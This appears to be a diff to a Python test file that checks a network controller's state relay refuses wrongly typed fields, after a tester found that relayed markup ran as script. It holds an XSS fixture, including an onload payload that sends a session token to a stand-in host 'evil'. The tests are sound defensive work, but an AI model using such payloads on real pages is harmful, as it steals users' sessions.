@@ -9,6 +9,7 @@ import asyncio
 import functools
 import gzip
 import json
+import re
 import threading
 import time
 from collections.abc import Iterator
@@ -20,7 +21,7 @@ import pytest
 from aiohttp.test_utils import TestClient
 
 from client.rest import RestServer as ClientRestServer
-from controller.clientfetch import MAX_DEPTH, Refused, check_state
+from controller.clientfetch import MAX_DEPTH, MAX_TEXT, Refused, check_state
 from controller.server import MasterServer
 from proto.restaddr import MAX_STATE, shares_namespace
 from tests.harness.loopcluster import free_ports
@@ -29,6 +30,9 @@ from tests.test_page import _ps, _report, _run, _until
 LEAF1_ID = 3                     # spine-1, spine-2, leaf-1: rest_port = base + id
 LAB_SOURCE = "127.1.0.3"         # lab.labconfig.client_cpn_address of leaf-1
 STATE = {"switch": "leaf-1", "term": 1, "lsd_version": 7, "ports": [{"port": 1, "nd": "up"}]}
+# what tester bb40 (F13) had a squatter answer: markup where the page expects numbers, run as script there
+XSS = {"switch": "leaf-1", "term": 1, "lsd_version": 5, "programmed_version": "<img src=x onerror=alert(1)>",
+       "ports": [{"port": "<svg onload=fetch(`//evil/?t=`+sessionStorage.getItem(`fp-token`))>", "peer": "spine-1:1"}]}
 
 
 # ------------------------------------------------------------------------------------------------ units
@@ -45,6 +49,47 @@ def test_check_state_relays_only_a_state_of_this_switch() -> None:
                        (json.dumps({**STATE, "x": deep}).encode(), "nested more than")):
         with pytest.raises(Refused, match=words):
             check_state(raw, "leaf-1")
+
+
+def _real_state() -> dict[str, Any]:
+    """A real client's `/v1/state` (client.core status plus the programmer's fields, as client.daemon merges)."""
+    from client.core import ClientCore
+    from proto.auth import KeyRing
+    from proto.clos import clos_fabric
+
+    fabric = clos_fabric(pods=0, leaves=2, spines=2, masters=1)
+    core = ClientCore(fabric, "leaf-1", KeyRing.from_secret(b"k" * 32), now=0.0)
+    return json.loads(json.dumps({**core.status(0.1), "programmed_version": -1, "routes": 0, "groups": 0,
+                                  "excluded_ports": [], "drained_switches": []}))
+
+
+def test_check_state_relays_only_the_types_the_page_and_commands_expect() -> None:
+    """Tester bb40 F13: a string of markup where the page shows a number was relayed, and the page ran it. Every
+    field the page or an operator command shows must have its type (an integer is not a string nor a boolean,
+    a string is at most MAX_TEXT characters); the error names the field, never its value."""
+    real = _real_state()
+    assert real["ports"] and "master" in real and "connected" in real
+    assert check_state(json.dumps(real).encode(), "leaf-1") == real          # a real client's state passes
+    port0 = real["ports"][0]
+    for doc, words in (
+            (XSS, "programmed_version is not an integer (got a string)"),
+            ({**XSS, "programmed_version": 3}, "ports[0].port is not an integer (got a string)"),
+            ({**real, "term": 1.5}, "term is not an integer (got a fraction)"),
+            ({**real, "programmed_version": True}, "programmed_version is not an integer (got a boolean)"),
+            ({**real, "master": ["<b>"]}, "master is not a string or null (got a list)"),
+            ({**real, "master": "m" * (MAX_TEXT + 1)}, f"master is longer than {MAX_TEXT} characters"),
+            ({**real, "connected": "<b>yes</b>"}, "connected is not true or false (got a string)"),
+            ({**real, "fail_static": 1}, "fail_static is not true or false (got an integer)"),
+            ({**real, "routes": "<i>"}, "routes is not an integer"),
+            ({**real, "ports": [port0, {**port0, "peer": {"x": 1}}]}, "ports[1].peer is not a string (got an object)"),
+            ({**real, "ports": [{**port0, "phy": "<img>"}]}, "ports[0].phy is not true or false or null"),
+            ({**real, "ports": [{**port0, "miscabled_by": 7}]}, "ports[0].miscabled_by is not a string or null"),
+            ({k: v for k, v in real.items() if k != "lsd_version"}, "no lsd_version")):
+        with pytest.raises(Refused, match=re.escape(words)) as e:
+            check_state(json.dumps(doc).encode(), "leaf-1")
+        assert "<" not in str(e.value), e.value                               # the value is never quoted
+    # a field no page or command shows is relayed as it is (the page shows it only in its escaped raw JSON)
+    assert check_state(json.dumps({**real, "extra": "<b>x</b>"}).encode(), "leaf-1")["extra"] == "<b>x</b>"
 
 
 def test_shares_namespace() -> None:
@@ -99,6 +144,8 @@ class _SquatHandler(BaseHTTPRequestHandler):
             self.end_headers()
         elif mode == "gzip":                                # a small bomb: 20 KiB on the wire, 20 MiB inside
             self._answer(_bomb(), ("Content-Encoding", "gzip"))
+        elif mode == "xss":
+            self._answer(json.dumps(XSS).encode())
         elif mode == "other_switch":
             self._answer(json.dumps({**STATE, "switch": "leaf-2"}).encode())
         elif mode == "trickle":                             # headers, then one byte a while, forever
@@ -176,6 +223,7 @@ def test_the_master_reads_the_client_where_it_listens_not_where_its_datagrams_co
     ("redirect", "HTTP 302: a redirect (not followed)"),
     ("gzip", "a compressed answer"),
     ("other_switch", "not the state of leaf-1's client: switch 'leaf-2'"),
+    ("xss", "not the state of a switch client: programmed_version is not an integer (got a string)"),
     ("trickle", "no whole answer within 1 s"),
 ])
 def test_a_squatter_costs_the_master_one_bounded_read(tmp_path: Path, squat: Any, mode: str, words: str) -> None:
